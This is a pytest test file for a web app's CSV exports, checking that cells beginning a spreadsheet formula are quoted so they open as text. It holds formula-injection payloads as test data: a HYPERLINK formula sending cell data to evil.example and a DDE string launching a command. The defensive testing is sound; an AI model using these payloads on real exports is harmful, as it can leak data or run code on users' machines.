"""CSV downloads safe to open in a spreadsheet: a cell that would start a formula is text."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest

from hall_devices.web.export import FORMULA_STARTS, csv_text, safe_cell
from tests.web.conftest import BACKOFF_S, SecureHall, request, sign_in_cookie
from tests.web.test_web import CHROMIUM

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_a_formula_gets_a_quote(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_and_numbers_are_unchanged() -> None:
    kept = ("窗口 3", "a=b", "", 42, -3, 1.5, None)
    assert tuple(safe_cell(v) for v in kept) == kept
    text = csv_text(["name", "n"], [[HYPERLINK, -1], ["@SUM(A1)", 2]])
    assert text.startswith("\ufeff")  # Excel reads the UTF-8 as such
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["name", "n"], ["'" + HYPERLINK, "-1"], ["'@SUM(A1)", "2"]]


def test_a_hostile_user_name_is_text_in_the_audit_csv(secure: SecureHall) -> None:
    """Issue 15 review, defect 3: a failed sign-in as ``=HYPERLINK(...)`` in /audit.csv."""
    own = {"Origin": secure.web.url}
    for name in (HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"):
        answer = request(secure, "/login", {"username": name, "password": "x"}, own)
        assert answer.status in (401, 429)
        if answer.status == 429:  # other tests' wrong passwords from this address: wait them out
            time.sleep(BACKOFF_S + 0.2)
            assert request(secure, "/login", {"username": name, "password": "x"}, own).status == 401
    cookie = sign_in_cookie(secure, "jo")  # a right password forgets this address's failures
    answer = request(secure, "/audit.csv?action=sign_in_failed", cookie=cookie)
    assert answer.status == 200 and answer.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.body.removeprefix("\ufeff"))))
    actors = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK in actors and "'+cmd|' /C calc'!A0" in actors and "'@SUM(1+1)*cmd" in actors
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    # The statistics download goes through the same helper (issue 19: Chinese headers).
    statistics = request(secure, "/stats.csv", cookie=cookie)
    assert statistics.status == 200 and statistics.body.startswith("\ufeff维度,编码,名称,")
